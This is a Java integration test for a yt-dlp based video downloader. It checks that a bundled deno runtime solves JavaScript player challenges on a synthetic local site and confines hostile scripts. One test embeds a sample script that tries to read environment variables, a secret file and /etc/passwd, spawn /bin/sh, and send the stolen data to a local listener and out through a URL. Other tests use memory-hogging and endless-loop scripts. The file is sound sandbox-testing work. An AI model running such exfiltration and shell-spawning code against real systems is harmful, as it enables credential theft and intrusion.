package dev.fetchlight.engine.ytdlp;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;

import dev.fetchlight.engine.Outcome;
import dev.fetchlight.engine.ytdlp.process.Bounds;
import dev.fetchlight.engine.ytdlp.process.Launcher;
import dev.fetchlight.engine.ytdlp.process.Leftovers;
import dev.fetchlight.engine.ytdlp.program.Programs;
import dev.fetchlight.engine.ytdlp.program.RuntimeSearch;
import dev.fetchlight.job.outcome.Failure;
import dev.fetchlight.job.outcome.Preview;
import dev.fetchlight.job.outcome.Sighting;
import dev.fetchlight.job.spec.Choices;
import dev.fetchlight.job.spec.Format;
import dev.fetchlight.job.spec.Link;
import dev.fetchlight.site.PlayerScript;
import dev.fetchlight.site.TubeSite;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * A site that has a client run its JavaScript, as YouTube does: solved by the deno that we bring.
 */
class ChallengeIT {
  private static final Path ZIPAPP = Path.of("target/yt-dlp-zipapp/res/raw/ytdlp");
  private static final Path OURS = Path.of("..", ".cache", "programs");

  /** A child with a small limit on texts has a small one on memory, too. */
  private static final long LITTLE_TEXT = 4 << 20;

  @TempDir Path folder;
  private Path scratch;

  @BeforeEach
  void makeScratch() throws Exception {
    scratch = Files.createDirectories(folder.resolve("data/scratch/job")).toRealPath();
  }

  /** An engine for one site, and what it was asked. */
  private final class Visit implements AutoCloseable {
    final TubeSite site;
    final Launcher launcher;
    final Bench bench;

    Visit(PlayerScript script, boolean warm, boolean runtime) throws Exception {
      this(script, warm, runtime, Patience.USUAL);
    }

    Visit(PlayerScript script, boolean warm, boolean runtime, Patience patience) throws Exception {
      site = TubeSite.start(script, folder);
      Path viewer = site.viewer(ZIPAPP, folder);
      RuntimeSearch search = runtime ? new RuntimeSearch(null, OURS, "") : RuntimeSearch.NOWHERE;
      launcher =
          new Launcher(
              () -> Programs.find(viewer, null, "/usr/local/bin:/usr/bin:/bin", search),
              patience.grace(),
              warm ? Duration.ofHours(1) : Duration.ZERO,
              new Bounds(folder.resolve("data").toRealPath(), LITTLE_TEXT));
      assertThat(launcher.warmUp().join()).isEqualTo(warm);
      bench = new Bench(launcher, scratch, patience);
    }

    int height(String id) throws Exception {
      Outcome outcome = bench.fetchFrom(TubeSite.video(id));
      assertThat(outcome).as("%s", bench.notes()).isInstanceOf(Outcome.Fetched.class);
      return Probed.of(((Outcome.Fetched) outcome).file()).height();
    }

    @Override
    public void close() throws IOException {
      bench.close();
      launcher.close();
      site.close();
    }
  }

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void isSolvedColdAndWarm(boolean warm) throws Exception {
    for (PlayerScript script : List.of(PlayerScript.reversing(), PlayerScript.rotating())) {
      try (Visit visit = new Visit(script, warm, true)) {
        assertThat(visit.height("NOJS0000001")).isEqualTo(720);
        assertThat(visit.height("LOW00000001")).isEqualTo(720);
        assertThat(Leftovers.in(scratch)).isEmpty();
      }
    }
  }

  @Test
  void waitsForAPremiereAndTakesItOnceItIsThere() throws Exception {
    try (Visit visit = new Visit(PlayerScript.reversing(), true, true)) {
      Instant start = Instant.parse("2099-01-02T03:04:05Z");
      visit.site.premieres(start);
      Outcome outcome = visit.bench.fetchFrom(TubeSite.video("PREM0000001"));

      assertThat(outcome).as("%s", visit.bench.notes()).isInstanceOf(Outcome.Later.class);
      Outcome.Later later = (Outcome.Later) outcome;
      assertThat(later.start()).isEqualTo(start);
      assertThat(later.why().sentence()).contains("not begun yet");
      assertThat(later.why().code()).isEqualTo(Failure.Code.UPCOMING);
      assertThat(later.end().code()).isEqualTo(Failure.Code.NOT_FOUND);
      assertThat(visit.bench.described())
          .extracting(each -> each.video().title())
          .contains("Synthetic PREM0000001");

      visit.site.premieres(Instant.EPOCH);
      assertThat(visit.height("PREM0000001")).isEqualTo(720);
    }
  }

  @Test
  void givesLittleOrNothingWithoutARuntime() throws Exception {
    try (Visit visit = new Visit(PlayerScript.reversing(), true, false)) {
      assertThat(visit.height("LOW00000001")).isEqualTo(180);
      assertThat(visit.bench.remarks())
          .containsExactly(
              "YouTube gave only 180p, because this server has no JavaScript runtime.");
      Outcome outcome = visit.bench.fetchFrom(TubeSite.video("NOJS0000001"));
      assertThat(outcome).isInstanceOf(Outcome.Failed.class);
      Failure failure = ((Outcome.Failed) outcome).failure();
      assertThat(failure.code()).isEqualTo(Failure.Code.ENGINE_OUTDATED);
      assertThat(failure.sentence()).contains("too old for YouTube");
      assertThat(visit.bench.engine.preview(link(TubeSite.video("NOJS0000001")), false, null, 10))
          .isEqualTo(new Sighting.Unseen(failure));
    }
  }

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void isSolvedForAPreviewToo(boolean warm) throws Exception {
    try (Visit visit = new Visit(PlayerScript.rotating(), warm, true)) {
      Sighting sighting =
          visit.bench.engine.preview(link(TubeSite.video("NOJS0000001")), false, null, 10);

      assertThat(sighting).isInstanceOf(Sighting.Seen.class);
      assertThat(((Sighting.Seen) sighting).preview().renditions())
          .extracting(Preview.Rendition::height)
          .contains(720);
    }
  }

  @Test
  void isNoHindranceToAList() throws Exception {
    try (Visit visit = new Visit(PlayerScript.reversing(), true, true)) {
      List<Preview.Item> items = new ArrayList<>();

      assertThat(visit.bench.engine.expand(link(TubeSite.list()), null, 10, items::add)).isEmpty();

      assertThat(items)
          .extracting(item -> item.link().value())
          .containsExactly(
              TubeSite.video("OKAY0000001"),
              TubeSite.video("OKAY0000002"),
              TubeSite.video("OKAY0000003"));
    }
  }

  @Test
  void isSolvedInAScriptAsLargeAsRealOnesAreInLittleMemory() throws Exception {
    try (Visit visit = new Visit(PlayerScript.large(), true, true)) {
      assertThat(visit.height("NOJS0000001")).isEqualTo(720);
    }
  }

  @Test
  void letsAHostileScriptOutNowhere() throws Exception {
    InetAddress loopback = InetAddress.ofLiteral("127.0.0.1");
    Path secret = Files.writeString(folder.resolve("data/vault.key"), "sesame-7361");
    try (ServerSocket inside = new ServerSocket(0, 9, loopback)) {
      String place = "127.0.0.1:" + inside.getLocalPort();
      String tries =
          """
          var told = [];
          var attempts = {
            environment: function(){ return JSON.stringify(Deno.env.toObject()); },
            file: function(){ return Deno.readTextFileSync("%1$s"); },
            system: function(){ return Deno.readTextFileSync("/etc/passwd"); },
            write: function(){ Deno.writeTextFileSync("stolen", "x"); return "wrote"; },
            start: function(){ return new Deno.Command("/bin/sh").outputSync().code; },
            native: function(){ Deno.dlopen("libc.so.6", {}); return "loaded"; },
            exit: function(){ return process.env.HOME; }
          };
          for (var name in attempts) {
            try { told.push(name + attempts[name]()); } catch (e) { }
          }
          var away = fetch("http://%2$s/stolen");
          var caught = away.catch(function(){});
          U.prototype.set = null;
          """
              .formatted(secret, place)
              .replace("U.prototype.set = null;", "globalThis.stolen = told.join();");
      String text = PlayerScript.hostile(tries).text();
      // What it got would be in the link that it makes.
      PlayerScript telling =
          new PlayerScript(
              text.replace("+\"OK\"", "+\"OK\"+encodeURIComponent(globalThis.stolen)"),
              n -> new StringBuilder(n).reverse() + "OK",
              s -> new StringBuilder(s).reverse().toString());
      try (Visit visit = new Visit(telling, true, true)) {
        assertThat(visit.height("NOJS0000001")).as("nothing was added").isEqualTo(720);
        assertThat(visit.site.asked()).noneMatch(path -> path.contains("sesame"));
        inside.setSoTimeout(1);
        assertThat(catchThrowable(inside::accept))
            .as("nobody came")
            .isInstanceOf(SocketTimeoutException.class);
        assertThat(filesIn(scratch)).noneMatch(file -> file.endsWith("stolen"));
      }
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "var hog=[];for(;;)hog.push(new Array(1e5).fill(Math.random()));",
        "var hog=[];for(;;)hog.push(new Uint8Array(1e8).fill(7));",
        "for(;;);",
        "var stay=setInterval(function(){},1e6);",
        "for(;;)console.log('x'.repeat(1e6));"
      })
  void endsAScriptThatWantsTooMuch(String statements) throws Exception {
    Patience little = Patience.USUAL.giveUpAfter(Duration.ofSeconds(5));
    try (Visit visit = new Visit(PlayerScript.hostile(statements), true, true, little)) {
      Outcome outcome = visit.bench.fetchFrom(TubeSite.video("NOJS0000001"));

      assertThat(outcome).isInstanceOf(Outcome.Failed.class);
      assertThat(Leftovers.in(scratch)).isEmpty();
    }
  }

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void leavesNoRuntimeBehindWhenItIsStopped(boolean warm) throws Exception {
    try (Visit visit = new Visit(PlayerScript.hostile("for(;;);"), warm, true)) {
      Bench.Job job =
          visit.bench.new Job(TubeSite.video("NOJS0000001"), Choices.of(Format.BEST), Bench.LIMITS);
      long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(120);
      while (!denoIn(scratch) && System.nanoTime() < end) {
        Thread.onSpinWait();
      }
      assertThat(denoIn(scratch)).isTrue();

      job.thread.interrupt();
      job.thread.join();

      assertThat(Leftovers.in(scratch)).isEmpty();
    }
  }

  private static boolean denoIn(Path scratch) throws Exception {
    return Leftovers.in(scratch).stream()
        .anyMatch(each -> each.info().command().filter(it -> it.endsWith("/deno")).isPresent());
  }

  private static Link link(String url) {
    return ((Link.Valid) Link.parse(url)).link();
  }

  private static List<Path> filesIn(Path folder) throws Exception {
    try (Stream<Path> files = Files.walk(folder)) {
      return files.toList();
    }
  }
}
